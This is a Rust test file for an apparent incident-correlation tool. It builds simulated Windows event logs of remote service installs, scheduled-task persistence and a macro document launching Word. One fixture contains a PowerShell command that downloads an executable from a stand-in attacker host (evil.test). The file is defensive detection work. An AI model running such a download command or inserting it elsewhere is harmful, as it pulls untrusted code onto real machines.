//! Windows: jobs ordered from other machines, by a service or a command, and what became of them where only commands tell.

use crate::scene::{Scene, check, entry, job, shown};
use watchbell_jobs::{Job, Kind, Verb};
use watchbell_story::{Chapter, Strength};

const EXACT: Option<Strength> = Some(Strength::Exact);
const STRONG: Option<Strength> = Some(Strength::Strong);

fn process(guid: &str, parent: &str, image: &str, above: &str, user: &str, command: &str) -> String {
    format!(
        "user={user} | logon=0x70 | process_guid={{{guid}}} | parent_guid={{{parent}}} | pid=7 | image=C:\\Windows\\{image} | parent_image=C:\\Windows\\{above} | command={command}"
    )
}

/// A service of somebody's own is copied, installed and started over the network; a shell under it makes a job.
fn service() -> Scene {
    let made = job(Kind::WindowsTask, "Sync", "C:\\b.exe", None);
    Scene::new()
        .fact("net", "logon", 0, "S2", "user=adm | logon=0x0 | target_logon=0x51 | logon_type=3 | address=10.1.1.66")
        .fact("copy", "share", 200, "S2", "user=adm | logon=0x51 | address=10.1.1.66 | file=RUNSVC.exe")
        .fact("manager", "share", 300, "S2", "user=adm | logon=0x51 | address=10.1.1.66 | pipe=svcctl")
        .fact("installed", "job", 500, "S2", "service=RUNSVC | image=%SystemRoot%\\RUNSVC.exe")
        .fact("service", "process", 600, "S2", &process("S1", "S0", "RUNSVC.exe", "services.exe", "SYSTEM", "C:\\Windows\\RUNSVC.exe"))
        .fact("other", "job", 550, "S2", "service=Spooler2 | image=C:\\Windows\\spool2.exe")
        .fact("made", "process", 900, "S2", &process("S2", "S1", "schtasks.exe", "RUNSVC.exe", "CORP\\adm", "schtasks /create /tn Sync /tr C:\\b.exe"))
        .alert("made", "adm", Some(made))
}

#[test]
fn a_service_leads_to_who_installed_it() {
    let told = service().tell();
    check(&told, &[("service", EXACT), ("installed", STRONG), ("copy", STRONG), ("manager", STRONG), ("net", STRONG), ("other", None)]);
    assert!(told.story.summary[0].starts_with("adm logged on to S2 over the network from 10.1.1.66"), "{}", shown(&told));
}

#[test]
fn a_pipe_that_two_accounts_used_tells_nobody() {
    let told = service().fact("second", "share", 350, "S2", "user=kim | logon=0x52 | address=10.1.1.9 | pipe=svcctl").tell();
    check(&told, &[("copy", STRONG), ("second", None)]);
}

/// Only process starts: made, run by the scheduler, deleted by command.
fn commands() -> Scene {
    let made = job(Kind::WindowsTask, "Upd", "C:\\Users\\Public\\a.exe", None);
    let gone = Job { name: Some("Upd".to_owned()), ..Job::new(Kind::WindowsTask, Verb::Delete) };
    let start = |pid: &str, parent: &str, image: &str, above: &str, command: &str| {
        format!("user=kim | logon=0xb1 | pid={pid} | parent_pid={parent} | image=C:\\{image} | parent_image=C:\\{above} | command={command}")
    };
    let delete = start("0x24", "0x23", "schtasks.exe", "Users\\Public\\a.exe", "schtasks /delete /tn Upd /f");
    Scene::new()
        .fact(
            "fetch",
            "process",
            -9_000,
            "PC",
            &start("0x21", "0x20", "powershell.exe", "winword.exe", "powershell -c iwr http://evil.test/a.exe -o C:\\Users\\Public\\a.exe"),
        )
        .fact("made", "process", 0, "PC", &start("0x22", "0x21", "schtasks.exe", "powershell.exe", "schtasks /create /tn Upd /tr C:\\Users\\Public\\a.exe"))
        .fact("ran", "process", 300_000, "PC", &start("0x23", "0x3", "Users\\Public\\a.exe", "Windows\\svchost.exe", "C:\\Users\\Public\\a.exe"))
        .fact("child", "process", 301_000, "PC", &start("0x25", "0x23", "whoami.exe", "Users\\Public\\a.exe", "whoami"))
        .fact("gone", "process", 400_000, "PC", &delete)
        .fact("gone", "job", 400_000, "PC", &format!("{delete} | job_name=Upd"))
        .with_job(&gone)
        .alert("made", "kim", Some(made))
}

#[test]
fn commands_alone_tell_of_run_and_deletion() {
    let told = commands().tell();
    check(&told, &[("fetch", EXACT), ("ran", STRONG), ("child", STRONG), ("gone", EXACT)]);
    assert_eq!(entry(&told, "ran").expect("the run").chapter, Chapter::After);
    let summary = &told.story.summary;
    assert!(summary[0].contains("fetched http://evil.test/a.exe with powershell.exe"), "{summary:?}");
    assert_eq!(summary[2], "It ran at 10:05:00 UTC and was deleted at 10:06:40 UTC.");
}

#[test]
fn a_batch_file_runs_through_the_shell() {
    let made = job(Kind::WindowsTask, "Office Sync", "C:\\Windows\\Temp\\o.bat", None);
    let shell = "user=S4$ | logon=0x3e7 | pid=0xd10 | parent_pid=0x4 | image=C:\\Windows\\System32\\cmd.exe | parent_image=C:\\Windows\\System32\\svchost.exe | command=C:\\Windows\\SYSTEM32\\cmd.exe /c \"C:\\Windows\\Temp\\o.bat\"";
    let scene = Scene::new().fact("made", "job", 0, "S4", "user=eve | logon=0xa1 | job_name=Office Sync").with_job(&made);
    let scene = scene.fact("shell", "process", 30_000, "S4", shell).alert("made", "eve", Some(made));
    check(&scene.tell(), &[("shell", STRONG)]);
}

/// Ordered on W1, made, run and deleted on S4.
fn ordered() -> Scene {
    let made = job(Kind::WindowsTask, "Cache", "C:\\c.exe", None);
    let gone = Job { name: Some("Cache".to_owned()), ..Job::new(Kind::WindowsTask, Verb::Delete) };
    let order =
        |verb: &str| format!("user=pat | logon=0x99 | image=C:\\schtasks.exe | command=schtasks /{verb} /s S4 /tn Cache | target_host=S4 | job_name=Cache");
    Scene::new()
        .fact("order", "process", 0, "W1", &order("create"))
        .fact("order", "job", 0, "W1", &order("create"))
        .with_job(&made)
        .fact("made", "job", 500, "S4", "user=pat | logon=0x500 | job_name=\\Cache")
        .with_job(&made)
        .fact("start", "process", 300_000, "W1", &order("run"))
        .fact("ran", "run", 300_400, "S4", "job_name=\\Cache")
        .fact("delete", "job", 400_000, "W1", &order("delete"))
        .with_job(&gone)
        .fact("other", "process", 400_000, "W1", &order("delete").replace("Cache", "Other"))
        .alert("made", "pat", Some(made))
}

#[test]
fn later_orders_from_another_machine_belong_to_the_job() {
    let told = ordered().tell();
    check(&told, &[("order", STRONG), ("start", STRONG), ("ran", STRONG), ("delete", STRONG), ("other", None)]);
    assert_eq!(entry(&told, "start").expect("the order").chapter, Chapter::After);
    assert_eq!(told.story.summary.last().map(String::as_str), Some("It ran at 10:05:00 UTC and was deleted at 10:06:40 UTC."));
    let mut there = ordered().alert("order", "pat", Some(job(Kind::WindowsTask, "Cache", "C:\\c.exe", None)));
    there.subject.target_host = Some("S4".to_owned());
    check(&there.tell(), &[("made", STRONG), ("ran", STRONG)]);
}

#[test]
fn whole_seconds_hide_neither_run_nor_end() {
    let made = job(Kind::WindowsTask, "T", "C:\\c.exe", None);
    let gone = Job { name: Some("T".to_owned()), ..Job::new(Kind::WindowsTask, Verb::Delete) };
    let scene = Scene::new().fact("gone", "job", 0, "S4", "user=bob | logon=0x5 | job_name=T").with_job(&gone);
    let scene = scene.fact("ran", "run", 0, "S4", "job_name=T").fact("made", "job", 0, "S4", "user=bob | logon=0x5 | job_name=T").with_job(&made);
    let told = scene.alert("made", "bob", Some(made)).tell();
    assert_eq!(told.story.summary.last().map(String::as_str), Some("It ran at 10:00:00 UTC and was deleted at 10:00:00 UTC."), "{}", shown(&told));
}

#[test]
fn the_document_that_a_program_was_given_leads_to_where_it_came_from() {
    let scene = Scene::new()
        .fact("saved", "file", -400_000, "PC", "user=kim | process_guid={90} | image=C:\\chrome.exe | file=C:\\Users\\kim\\Downloads\\i.docm")
        .fact("later", "file", 5_000, "PC", "user=kim | process_guid={90} | image=C:\\chrome.exe | file=C:\\Users\\kim\\Downloads\\i.docm")
        .fact("word", "process", -300_000, "PC", &process("W", "E", "winword.exe", "explorer.exe", "kim", "winword /n \"C:\\Users\\kim\\Downloads\\i.docm\""))
        .fact("made", "process", 0, "PC", &process("M", "W", "schtasks.exe", "winword.exe", "kim", "schtasks /create /tn T"))
        .alert("made", "kim", None);
    check(&scene.tell(), &[("word", EXACT), ("saved", STRONG), ("later", None)]);
}

#[test]
fn what_an_alert_does_not_know_leaves_no_mark_in_its_entry() {
    let mut scene = Scene::new().fact("made", "unsaid", 0, "PC", "user=eve").alert("made", "eve", None);
    scene.subject.events[0].text = "? set up a task on PC: ?".to_owned();
    assert_eq!(entry(&scene.tell(), "made").expect("own").text, "Somebody set up a task on PC");
}

#[test]
fn what_a_definition_calls_itself_joins_nothing() {
    let named = |label: &str| job(Kind::WindowsTask, "x", &format!("C:\\{label}.exe"), None);
    let scene = Scene::new().fact("other", "job", 5_000, "PC", "user=SYSTEM | job_name=\\Vendor\\Other").with_job(&named("other"));
    let mut scene = scene.fact("made", "job", 0, "PC", "user=eve | job_name=\\Mine").with_job(&named("mine")).alert("made", "eve", Some(named("mine")));
    scene.subject.entities.push(("job".to_owned(), "Mine".to_owned()));
    check(&scene.tell(), &[("other", None)]);
}

#[test]
fn a_sentence_that_tells_a_failure_tells_it_once() {
    let mut scene = Scene::new().fact("made", "run", 0, "PC", "job_name=Gone").failed().alert("made", "eve", None);
    scene.subject.summary = "The task Gone on PC failed to start (2147942402)".to_owned();
    assert_eq!(scene.tell().story.summary, ["The task Gone on PC failed to start (2147942402)."]);
}
